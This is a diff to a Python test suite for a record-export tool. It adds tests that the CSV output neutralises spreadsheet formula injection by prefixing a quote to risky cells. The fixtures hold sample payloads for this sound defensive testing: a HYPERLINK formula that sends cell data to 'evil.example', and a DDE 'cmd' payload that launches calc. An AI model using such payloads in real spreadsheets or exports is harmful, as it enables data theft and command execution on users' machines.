@@ -83,6 +83,11 @@ def read_csv(path: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(handle))
 
 
+def defused(text: str) -> str:
+    """Text as the CSV export writes it: a leading formula character gets a quote before it."""
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
 def unique_summary_word(checked) -> tuple[str, str]:
     """A word of one record's summary whose first five letters occur in no other record's name or
     summary, so that a full-text search for it (stemmed or not) must find exactly that record."""
@@ -157,8 +162,8 @@ def test_csv_has_a_row_per_record_and_a_column_per_field(real, exported):
 
 
 def test_csv_cells_give_back_the_records_text(real, exported):
-    """Every text field reads back exactly; lists of plain values are joined with '; ',
-    objects are JSON; a missing value is an empty cell."""
+    """Every text field reads back exactly (but for the quote that defuses a formula); lists of
+    plain values are joined with '; ', objects are JSON; a missing value is an empty cell."""
     dumps = {e.id: e.record.model_dump(mode="json") for e in real.entries}
     for kind in KINDS:
         shapes = {column.name: column.shape for column in columns_of(KINDS[kind])}
@@ -169,11 +174,11 @@ def test_csv_cells_give_back_the_records_text(real, exported):
                 if value is None:
                     assert cell == ""
                 elif shapes[field] == "list":
-                    assert cell == LIST_SEPARATOR.join(map(str, value))
+                    assert cell == defused(LIST_SEPARATOR.join(map(defused, map(str, value))))
                 elif shapes[field] == "json":
                     assert json.loads(cell) == value
                 elif isinstance(value, str):
-                    assert cell == value, (row["id"], field)
+                    assert cell == defused(value), (row["id"], field)
                 else:
                     assert type(value)(cell) == value
 
@@ -351,6 +356,91 @@ def test_awkward_text_round_trips_through_every_format(tricky, tmp_path):
             "SELECT records.id FROM records_fts JOIN records ON records.seq = records_fts.rowid "
             "WHERE records_fts MATCH 'naive'")]
         assert found == ["deceptive-alignment"]  # accents are folded: naive finds naïve
+
+
+FORMULAS = {  # text an editor may type that a spreadsheet would run
+    "name": '=HYPERLINK("https://evil.example/?x="&A1,"GPT-4")',
+    "summary": "-1+1|cmd",
+    "capability": "+SUM(1,2)",
+    "achievement": "@SUM(A1:A9)",
+    "limitations": "\tstarts with a tab",
+    "significance": "\rstarts with a carriage return",
+}
+FORMULA_ALIASES = ["-5", "plain alias", "=1+1"]  # "-5" is text here: an alias, not a number
+FORMULA_NOTE = "=cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def formulas(tmp_path) -> Path:
+    """The valid fixture tree with formula-like text in a system and a negative figure in a metric."""
+    root = tmp_path / "content"
+    shutil.copytree(VALID, root)
+    path = root / "systems" / "gpt-4.yaml"
+    record = yaml.safe_load(path.read_text(encoding="utf-8"))
+    record.update(FORMULAS, aliases=FORMULA_ALIASES)
+    record["relations"][0]["note"] = FORMULA_NOTE
+    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    path = root / "metrics" / "training-compute-doubling.yaml"
+    record = yaml.safe_load(path.read_text(encoding="utf-8"))
+    record["estimate"].update(value=-0.5, low=-1, high=0)
+    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    return root
+
+
+def test_csv_defuses_formulas_and_json_and_sqlite_keep_the_text(formulas, tmp_path):
+    checked = check(formulas)
+    assert checked.ok, [d.as_text() for d in checked.diagnostics]
+    record = checked.graph.entries["gpt-4"].record
+    assert {field: getattr(record, field) for field in FORMULAS} == FORMULAS  # loaded as written
+    out = tmp_path / "data"
+    export(checked.graph, out, ["json", "csv", "sqlite"])
+
+    with (out / "systems.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    header = rows[0]
+    (row,) = [dict(zip(header, r)) for r in rows[1:] if r[0] == "gpt-4"]
+    assert {field: row[field] for field in FORMULAS} == {
+        "name": '\'=HYPERLINK("https://evil.example/?x="&A1,"GPT-4")',
+        "summary": "'-1+1|cmd",
+        "capability": "'+SUM(1,2)",
+        "achievement": "'@SUM(A1:A9)",
+        "limitations": "'\tstarts with a tab",
+        "significance": "'\rstarts with a carriage return",
+    }
+    assert row["aliases"] == "'-5; plain alias; '=1+1"  # each item, and so the cell
+    relations = json.loads(row["relations"])  # a JSON cell starts with '[': exact, and parses
+    assert relations[0]["note"] == FORMULA_NOTE
+    assert row["quality"] == "70" and row["id"] == "gpt-4"  # numbers and plain text untouched
+    (metric,) = read_csv(out / "metrics.csv")
+    assert json.loads(metric["estimate"])["value"] == -0.5 and '"value":-0.5' in metric["estimate"]
+
+    (saved,) = [r for r in json.loads((out / "systems.json").read_text(encoding="utf-8")) if r["id"] == "gpt-4"]
+    assert {field: saved[field] for field in FORMULAS} == FORMULAS
+    assert saved["aliases"] == FORMULA_ALIASES and saved["relations"][0]["note"] == FORMULA_NOTE
+    with sqlite3.connect(out / DATABASE) as connection:
+        columns = ", ".join(FORMULAS)
+        assert connection.execute(f"SELECT {columns} FROM systems WHERE id = 'gpt-4'").fetchone() == tuple(
+            FORMULAS.values())
+        aliases, relations = connection.execute(
+            "SELECT aliases, relations FROM systems WHERE id = 'gpt-4'").fetchone()
+        assert json.loads(aliases) == FORMULA_ALIASES and json.loads(relations)[0]["note"] == FORMULA_NOTE
+        assert connection.execute("SELECT name FROM records WHERE id = 'gpt-4'").fetchone()[0] == FORMULAS["name"]
+        assert json.loads(connection.execute("SELECT estimate FROM metrics").fetchone()[0])["value"] == -0.5
+
+
+def test_csv_defuses_by_the_values_type_not_its_look():
+    """A number stays a number, even negative; text that looks like one is defused."""
+    from generator.export import Column, csv_cell
+
+    number = Column("value", "REAL", "scalar", True, None)
+    text = Column("note", "TEXT", "scalar", True, None)
+    plain = Column("aliases", "TEXT", "list", False, None)
+    assert csv_cell(number, -0.5) == "-0.5" and csv_cell(Column("n", "INTEGER", "scalar", True, None), -3) == "-3"
+    assert csv_cell(text, "-5") == "'-5" and csv_cell(text, "-1+1|cmd") == "'-1+1|cmd"
+    assert csv_cell(text, "'=already quoted") == "'=already quoted" and csv_cell(text, "a-b") == "a-b"
+    assert csv_cell(text, "") == "" and csv_cell(text, None) == ""
+    assert csv_cell(plain, [-1, "x"]) == "'-1; x"  # a number first: the cell is text, not -1
+    assert csv_cell(plain, ["x", -1]) == "x; -1" and csv_cell(plain, [True]) == "true"
 
 
 def test_only_the_asked_formats_are_written(tricky, tmp_path):
